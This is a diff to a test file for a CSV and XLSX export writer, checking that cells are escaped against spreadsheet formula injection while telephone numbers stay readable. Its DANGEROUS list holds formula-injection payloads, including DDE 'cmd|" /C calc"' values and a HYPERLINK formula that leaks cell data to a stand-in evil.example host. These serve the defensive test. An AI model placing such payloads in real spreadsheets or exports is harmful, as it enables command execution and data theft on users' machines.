@@ -50,7 +50,16 @@ const BLANKS = [
 const DANGEROUS = [
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1,"click")',
-  '+49 30 901820',
+  '+49 30 901820-12',
+  '+1+cmd|" /C calc"!A0',
+  '+A1',
+  '+49(30)901820',
+  '++49',
+  '+ 49',
+  ' +49 30 901820',
+  '\uff0b49 30 901820',
+  '+49 30 901820;=1+1',
+  '+49 30 901820\n=1+1',
   '-2+3+cmd|" /C calc"!A0',
   '@SUM(1+9)*cmd|" /C calc"!A0',
   '\t=1+1',
@@ -107,10 +116,47 @@ describe('CSV', () => {
     },
   )
 
-  test('a phone number stays readable as one', async () => {
-    const [, [cell = ''] = []] = cellsOf(await write(writeCsv, [[text('+4930901820'), text('')]]))
-    expect(cell).toBe("'+4930901820")
-    expect(parsePhoneNumber(cell).number).toBe('+4930901820')
+  test.each(['+4930901820', '+49 30 901820', '+90 212 555 01 23', '+1 415\u00a0555 0123', '+0'])(
+    'the telephone number %s stays as it is, in quotation marks',
+    async (number) => {
+      const file = await write(writeCsv, [[text(number), text('')]])
+      expect(file.toString('utf8')).toContain(`\r\n"${number}",`)
+      const [, [cell = ''] = []] = cellsOf(file)
+      expect(cell).toBe(number)
+      if (number.length > 5) expect(parsePhoneNumber(cell).isPossible()).toBe(true)
+    },
+  )
+
+  test.each([
+    ['Lamp,=1+1', "Lamp,'=1+1"],
+    ['Lamp, "@cmd"', 'Lamp, "\'@cmd"'],
+    ['Lamp;-1', "Lamp;'-1"],
+    ['=1+1', "'=1+1"],
+    ['a=b, c+d', 'a=b, c+d'],
+  ])('with semicolons, %j holds no formula even when split at commas', async (value, expected) => {
+    const parts = { columns: columnsOf(1), batches: inBatches([[text(value)]]), maxRows: 1 }
+    const file = await bytesOf(writeCsv({ ...parts, separator: 'semicolon' }))
+    expect(parse(file, { bom: true, delimiter: ';' })[1]).toEqual([expected])
+  })
+
+  test('with semicolons has decimal commas, and the same texts and days', async () => {
+    const rows = [[...oneOfEach, text('a;b'), number(-1234.5), number(7), text('+4930901820')]]
+    const parts = { columns: columnsOf(11), batches: inBatches(rows), maxRows: 1 }
+    const file = await bytesOf(writeCsv({ ...parts, separator: 'semicolon' }))
+    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect(parse(file, { bom: true, delimiter: ';' })[1]).toEqual([
+      'Lampen "Ümit" & <Söhne>, GmbH\nZeile 2',
+      '19,9',
+      'true',
+      '2026-03-09',
+      '2026-03-09T10:30:00.000Z',
+      'Loox, Klaviyo',
+      '',
+      'a;b',
+      '-1234,5',
+      '7',
+      '+4930901820',
+    ])
   })
 
   test(
@@ -136,7 +182,7 @@ describe('CSV', () => {
             )
             expect(cells).toHaveLength(rows.length + 1)
             for (const cell of cells.slice(1).flat())
-              expect(cell).not.toMatch(/(^|[;\t\r\n]["\s]*)[=+\-@]/)
+              if (!/^\+\d[ \d]*$/.test(cell)) expect(cell).not.toMatch(/(^|[;\t\r\n]["\s]*)[=+\-@]/)
           },
         ),
         { numRuns: 60 },
@@ -257,7 +303,7 @@ describe('XLSX', () => {
       const cells = sheet?.cells.slice(1) ?? []
       expect(cells).toHaveLength(DANGEROUS.length)
       for (const { type, style } of cells) expect([type, style]).toEqual(['inlineStr', '4'])
-      expect(cells[2]?.text).toBe('+49 30 901820')
+      expect(cells[2]?.text).toBe('+49 30 901820-12')
     },
   )
 
